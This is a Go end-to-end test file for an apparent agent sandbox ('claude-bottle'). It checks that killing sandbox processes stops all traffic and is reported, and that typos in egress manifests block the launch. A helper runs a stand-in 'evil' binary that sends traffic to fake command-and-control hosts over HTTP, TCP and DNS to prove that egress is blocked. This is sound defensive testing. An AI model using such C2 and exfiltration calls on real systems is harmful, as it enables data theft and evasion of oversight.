//go:build linux

package e2e_test

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/internal/state"
)

// traffic starts everything that could leave a bottle, over and over, and waits until the allowed
// part arrives.
func traffic(t *testing.T, b *sealed, tag string) {
	t.Helper()
	go func() { // ends with the bottle
		_, _ = b.order(background, nil, "/workspace/evil", "hammer", "http://ok.test/twin/"+tag+"/", "http://c2.test/"+planted,
			"tcp:"+c2Addr.String()+":443", "udp:"+c2Addr.String()+":53", "udp:8.8.8.8:53")
	}()
	within(t, patience, "benign twin: the traffic flows", func() bool { return world.good.requests("/twin/"+tag) > 3 })
}

// silent checks that the traffic of a bottle has come to its end: over a time in which hundreds of
// requests would, none arrives any more. What had left the bottle before its end may still be on its way.
func silent(t *testing.T, tag string) {
	t.Helper()
	first, last, quiet := world.good.requests("/twin/"+tag), -1, time.Now()
	within(t, patience, "nothing of the bottle's traffic arrives any more", func() bool {
		if n := world.good.requests("/twin/" + tag); n != last {
			last, quiet = n, time.Now()
		}
		return time.Since(quiet) > 300*time.Millisecond
	})
	if n := last - first; n > onTheWay {
		t.Errorf("%d requests came after the end", n)
	}
}

// onTheWay is more than the requests of one bottle that can have left it and not arrived: the hammer makes
// one after the other, and gives each up after a second.
const onTheWay = 20

// A bottle whose warden or cork is killed in the middle of its traffic is dead at once, and says so.
func TestB13KilledInTraffic(t *testing.T) {
	t.Parallel()
	for name, victim := range map[string]func(*sealed) int{
		"warden": func(b *sealed) int { return b.warden },
		"cork":   func(b *sealed) int { return corks(b.id, b.warden)[0].pid },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHome(t)
			b, err := h.open()
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() {
				if err := b.close(); err != nil {
					t.Error(err)
				}
			})
			tag := "b13" + name
			traffic(t, b, tag)
			inside := corks(b.id, b.warden)
			for _, c := range corks(b.id, b.warden) {
				inside = append(inside, children(c.pid)...)
			}
			if len(inside) < 2 && !opaque() {
				t.Fatalf("the bottle has %d processes", len(inside))
			}
			if err := syscall.Kill(victim(b), syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			// Nobody is left who could be waiting for it to end by itself, which takes longer.
			within(t, 10*time.Second, "every process of the bottle is gone", func() bool {
				for _, p := range inside {
					if p.alive() {
						return false
					}
				}
				return true
			})
			silent(t, tag)
			select {
			case <-b.ended:
			case <-time.After(patience):
				t.Fatal("claude-bottle run does not notice")
			}
			if b.err == nil {
				t.Error("claude-bottle run ended well")
			}
			if !strings.Contains(b.errs.String(), "error: ") {
				t.Errorf("nobody was told: %s", b.errs.String())
			}
			var list []state.Entry
			r := h.run(t, "list", "--all", "--json")
			if err := json.Unmarshal([]byte(r.out), &list); err != nil || len(list) != 1 {
				t.Fatalf("list: %v: %v", err, r)
			}
			if e := list[0]; e.Alive || !e.State.Ended() || e.Reason == "" {
				t.Errorf("list tells something else: %+v", e)
			}
			cleanUp(t, h)
		})
	}
}

// What the operator mistypes stops the launch with its place; it never opens anything.
func TestB14Typos(t *testing.T) {
	t.Parallel()
	h := newHome(t)
	const head = "agent_provider: {template: shell, command: [/bin/true]}\n"
	for name, c := range map[string]struct{ text, at, says string }{
		"unknown-key":     {"egress:\n  routes:\n    - host: ok.test\n      allwo: true", ":6:7", `allwo`},
		"unknown-top":     {"egres:\n  routes: []", ":3:1", `did you mean "egress"`},
		"quoted-port":     {"egress:\n  routes:\n    - host: ok.test\n      ports: [\"443\"]", ":6:15", "a port number"},
		"port-range":      {"egress:\n  routes:\n    - host: ok.test\n      ports: [70000]", ":6:15", "not a port"},
		"star":            {"egress:\n  routes:\n    - host: \"*\"", ":5:13", "host"},
		"url-as-host":     {"egress:\n  routes:\n    - host: https://ok.test", ":5:13", "name alone"},
		"empty-host":      {"egress:\n  routes:\n    - host: \"\"", ":5:13", "host"},
		"empty-match":     {"egress:\n  routes:\n    - host: ok.test\n      matches: [{}]", ":6:17", "any request"},
		"unknown-scheme":  {"egress:\n  routes:\n    - host: ok.test\n      auth: {scheme: Bearre, token_ref: E2E_TOKEN}", ":6:22", "Bearer"},
		"bad-path-type":   {"egress:\n  routes:\n    - host: ok.test\n      matches:\n        - paths: [{type: glob, value: /}]", ":7:26", "prefix"},
		"network-typo":    {"egress:\n  routes:\n    - host: ok.test\n      networks: [10.0.0.1/8]", ":6:18", "10.0.0.0/8"},
		"routes-is-a-map": {"egress:\n  routes: {host: ok.test}", ":4:11", "list"},
		"tab":             {"egress:\n\troutes: []", ":4:1", ""},
		"twice":           {"env: {A: b}\nenv: {A: c}", ":4:1", "env"},
		"limit":           {"limits: {memory: 4}", ":3:18", "unit"},
	} {
		h.manifest(t, "bottles/"+name+".md", head+c.text)
		for _, verb := range [][]string{{"run", "evil", "--prompt", "x"}, {"start", "evil", "--yes", "--detach"}} {
			r := h.run(t, append(verb, "--bottle", name)...)
			if r.code != 1 || !strings.Contains(r.errors, h.path("bottles/"+name+".md")+c.at) || !strings.Contains(r.errors, c.says) {
				t.Errorf("%s: want %s and %q: %v", name, c.at, c.says, r)
			}
		}
	}
	if left, err := os.ReadDir(h.path("state")); err == nil && len(left) > 0 {
		t.Errorf("a typo started something: %v", left)
	}
	// The twins: right spelling, and an empty list that allows nothing instead of everything.
	h.manifest(t, "bottles/fine.md", head+"egress:\n  routes:\n    - host: ok.test\n      ports: [443]")
	if r := h.run(t, "run", "evil", "--prompt", "x", "--bottle", "fine"); r.code != 0 {
		t.Errorf("benign twin: %v", r)
	}
	for name, routes := range map[string]string{"none": "[]", "null": "", "absent": "absent"} {
		text := "agent_provider: {template: shell, command: [/workspace/evil, http, -via, proxy]}\n"
		if routes != "absent" {
			text += "egress:\n  routes: " + routes
		}
		h.manifest(t, "bottles/"+name+".md", text)
		r := h.run(t, "run", "evil", "--cwd", "--bottle", name, "--prompt", "http://ok.test/twin/b14")
		if r.code == 0 && !strings.Contains(r.out, `"status":403`) || strings.Contains(r.out, `"status":200`) {
			t.Errorf("%s routes: %v", name, r)
		}
	}
	if n := world.good.requests("/twin/b14"); n > 0 {
		t.Error(fmt.Sprint(n, " requests passed an empty list of routes"))
	}
}
